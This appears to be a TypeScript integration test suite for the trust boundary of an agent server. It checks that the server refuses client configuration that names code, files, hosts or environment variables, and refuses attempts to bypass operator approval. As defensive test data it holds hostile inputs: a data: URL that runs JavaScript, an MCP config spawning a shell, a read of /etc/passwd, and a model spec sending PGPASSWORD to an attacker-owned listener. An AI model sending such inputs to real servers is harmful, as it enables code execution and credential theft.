/**
 * The trust boundary of `alpha-umi serve`, attacked as a hostile client would through the official SDK: a run's
 * configuration cannot name code, files, hosts or environment variables (tool sources, model specs), cannot lower the
 * operator's approval, and no state edit, command or fork can settle a held call. Each attack is refused with a 4xx
 * naming the key, or asked as the operator's policy says; nothing it names is touched.
 */
import type { ChildProcess } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Client } from "@langchain/langgraph-sdk";
import type { AgentStateType } from "../../src/state.js";
import { DEMO_INSTRUCTION } from "../../tools/demo/index.js";
import { testSchema } from "../helpers/postgres.js";
import { loggedDemoTools } from "../helpers/loggedTools.js";
import { drain, startServe, stopProcess } from "../helpers/serve.js";

const pg = testSchema("serve_trust");
const FX = "exchange_rate_for_fx";
let dir: string;
let tools: string;
let ran: () => string[];
let listener: Server;
let listenerUrl: string;
const heard: string[] = [];
const servers: ChildProcess[] = [];
/** The operator's server: approval floor on the rate tool. */
let floor: { client: Client; url: string };
/** A server with no floor of its own, where approval comes only from a run's configuration. */
let open: { client: Client; url: string };

async function server(args: string[]) {
  const { url, child } = await startServe(["--checkpoints", pg.url, "--tools", tools, ...args], 90_000);
  servers.push(child);
  return { client: new Client({ apiUrl: url }), url };
}

beforeAll(async () => {
  await pg.reach();
  dir = mkdtempSync(join(tmpdir(), "alpha-umi-serve-trust-"));
  ({ source: tools, ran } = loggedDemoTools(dir));
  // A host the attacker owns: it records every request it gets (there must be none).
  listener = createServer((req, res) => {
    heard.push(`${req.method} ${req.url} ${req.headers.authorization ?? ""}`);
    res.end("{}");
  });
  await new Promise<void>((r) => listener.listen(0, "127.0.0.1", r));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  [floor, open] = await Promise.all([server(["--approve", FX]), server([])]);
}, 200_000);

afterAll(async () => {
  await Promise.all(servers.map((s) => stopProcess(s)));
  listener?.close();
  await pg.drop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});



/** POST a run as raw JSON (what any HTTP client can send): the status and the body's one line. */
async function postRun(url: string, threadId: string, body: Record<string, unknown>): Promise<{ status: number; error: string; text: string }> {
  const res = await fetch(`${url}/threads/${threadId}/runs/wait`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ assistant_id: "alphaUmi", ...body }) });
  const text = await res.text();
  let error = text;
  try {
    error = (JSON.parse(text) as { error?: string }).error ?? text;
  } catch {
    /* not JSON: the text itself */
  }
  return { status: res.status, error, text };
}

async function waitingTools(client: Client, threadId: string): Promise<string[]> {
  const state = await client.threads.getState(threadId);
  return state.tasks.flatMap((t) => (t.interrupts ?? []).map((i) => (i.value as { tool?: string; action_requests?: { name: string }[] }).tool ?? (i.value as { action_requests: { name: string }[] }).action_requests?.[0]?.name ?? "?"));
}

describe("serve: a run's configuration names no code, file, host or environment variable", () => {
  const marker = () => join(dir, "pwned");
  const attacks: Array<[string, () => Record<string, unknown>, string]> = [
    ["a data: URL tool source (JavaScript in the server)", () => ({ toolSources: `langchain:data:text/javascript,${encodeURIComponent(`import{writeFileSync}from"node:fs";writeFileSync(${JSON.stringify(marker())},"x");export const t=[];`)}#t` }), "toolSources"],
    ["a module: tool source (a local file)", () => ({ toolSources: `module:${join(dir, "tools.ts")}` }), "toolSources"],
    ["an mcp: tool source (a command to spawn)", () => ({ toolSources: `mcp:${join(dir, "mcp.json")}` }), "toolSources"],
    ["a replay: model on a server file", () => ({ plannerModel: "replay:/etc/passwd" }), "plannerModel"],
    ["an openai: model sending an environment variable to another host", () => ({ callerModel: `openai:x@${listenerUrl}/v1#key_env=PGPASSWORD` }), "callerModel"],
    ["an ollama: model on another host", () => ({ summarizerModel: `ollama:m@${listenerUrl}` }), "summarizerModel"],
    ["the context window, which sizes the model server", () => ({ numCtx: 1_000_000 }), "numCtx"],
    ["LangGraph's internal keys", () => ({ __pregel_checkpointer: { x: 1 } }), "__pregel_checkpointer"],
  ];

  it.each(attacks)("%s: 403 naming the key; nothing named is touched", async (_what, configurable, key) => {
    writeFileSync(join(dir, "mcp.json"), JSON.stringify({ mcpServers: { x: { command: "sh", args: ["-c", `touch ${marker()}`] } } }));
    const thread = await floor.client.threads.create();
    const r = await postRun(floor.url, thread.thread_id, { input: { instruction: DEMO_INSTRUCTION }, config: { configurable: configurable() } });
    expect(r.status).toBe(403);
    expect(r.error).toContain(key);
    expect(r.error).not.toMatch(/root:/); // no byte of a probed file
    // The same key in the run's context is refused likewise.
    const viaContext = await postRun(floor.url, thread.thread_id, { input: { instruction: DEMO_INSTRUCTION }, context: configurable() });
    expect(viaContext.status).toBe(403);
    expect(existsSync(marker())).toBe(false);
    expect(heard).toEqual([]);
    // Nothing ran on the thread.
    expect(((await floor.client.threads.getState(thread.thread_id)).values as Partial<AgentStateType>).turns ?? []).toEqual([]);
  }, 30_000);

  it("the thread protocol's run.start and input.respond commands cross the same boundary", async () => {
    const thread = await floor.client.threads.create();
    const command = (method: string, params: Record<string, unknown>) =>
      fetch(`${floor.url}/threads/${thread.thread_id}/commands`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ id: 1, method, params }) });
    const start = await command("run.start", { assistant_id: "alphaUmi", input: { instruction: DEMO_INSTRUCTION }, config: { configurable: attacks[0]![1]() } });
    expect(start.status).toBe(403);
    expect(await start.text()).toMatch(/params\.config\.configurable\.toolSources: set by the operator only/);
    const respond = await command("input.respond", { interrupt_id: "x", response: { decisions: [{ type: "approve" }] }, update: { call: null } });
    expect(respond.status).toBe(403);
    expect(await respond.text()).toMatch(/params\.update\.call: /);
    expect(existsSync(marker())).toBe(false);
    expect(((await floor.client.threads.getState(thread.thread_id)).values as Partial<AgentStateType>).turns ?? []).toEqual([]);
  }, 30_000);

  it("a malformed client setting is 422 naming it; a client setting within range is taken", async () => {
    const thread = await floor.client.threads.create();
    const bad = await postRun(floor.url, thread.thread_id, { input: { instruction: DEMO_INSTRUCTION }, config: { configurable: { maxSteps: -3 } } });
    expect(bad.status).toBe(422);
    expect(bad.error).toMatch(/config\.configurable\.maxSteps: expected a positive integer, got -3/);
    // A step budget of 1 ends the demo run after one planner step (it needs two calls): the client's value was used.
    const ok = await postRun(open.url, (await open.client.threads.create()).thread_id, { input: { instruction: DEMO_INSTRUCTION }, config: { configurable: { maxSteps: 1 } } });
    expect(ok.status).toBe(200);
    expect((JSON.parse(ok.text) as AgentStateType).status).toEqual({ status: "gave_up", reason: "step budget exhausted: 1 planner steps without a conclusion" });
  }, 60_000);
});

describe("serve: the operator's approval is a floor", () => {
  it("approve: \"none\" over the operator's --approve still asks before the call", async () => {
    const { client } = floor;
    const thread = await client.threads.create();
    await drain(client.runs.stream(thread.thread_id, "alphaUmi", { input: { instruction: DEMO_INSTRUCTION }, config: { configurable: { approve: "none" } }, streamMode: ["updates"] }));
    expect(await waitingTools(client, thread.thread_id)).toEqual([FX]);
    expect(ran().filter((l) => l.startsWith(FX))).toEqual([]);
  }, 60_000);

  it("a fork from before the held call (Agent Chat UI's Refresh), with no configuration, asks again", async () => {
    const { client } = open;
    const thread = await client.threads.create();
    await drain(client.runs.stream(thread.thread_id, "alphaUmi", { input: { instruction: DEMO_INSTRUCTION }, config: { configurable: { approve: [FX] } }, streamMode: ["updates"] }));
    expect(await waitingTools(client, thread.thread_id)).toEqual([FX]);
    // The checkpoint where the caller is about to propose the held call: fork there with no configuration at all.
    const history = await client.threads.getHistory(thread.thread_id, { limit: 50 });
    const beforeCaller = history.filter((s) => s.next.includes("caller"))[0]!;
    await drain(client.runs.stream(thread.thread_id, "alphaUmi", { input: null, checkpoint: beforeCaller.checkpoint, streamMode: ["updates"] }));
    expect(await waitingTools(client, thread.thread_id)).toEqual([FX]);
    expect(ran().filter((l) => l.startsWith(FX))).toEqual([]);
  }, 60_000);

  it("a state edit or a run's command that settles the held call is refused", async () => {
    const { client, url } = floor;
    const thread = await client.threads.create();
    await drain(client.runs.stream(thread.thread_id, "alphaUmi", { input: { instruction: DEMO_INSTRUCTION }, streamMode: ["updates"] }));
    const state = await client.threads.getState(thread.thread_id);
    const held = (state.values as unknown as AgentStateType).call!;
    const settled = { ...held, approve: false, run: { actionInput: '{"from":"EUR","to":"JPY"}', attempt: "x" } };
    const edit = await fetch(`${url}/threads/${thread.thread_id}/state`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ values: { call: settled }, as_node: "tool" }) });
    expect(edit.status).toBe(403);
    expect(await edit.text()).toMatch(/values\.call: the state's settled tool call is written by the graph only/);
    const lower = await fetch(`${url}/threads/${thread.thread_id}/state`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ values: { approve: "none" } }) });
    expect(lower.status).toBe(403);
    const command = await postRun(url, thread.thread_id, { command: { update: { call: settled }, goto: "tool" } });
    expect(command.status).toBe(403);
    expect(command.error).toMatch(/command\.update\.call/);
    expect(await waitingTools(client, thread.thread_id)).toEqual([FX]);
    expect(ran().filter((l) => l.startsWith(FX))).toEqual([]);
  }, 60_000);
});
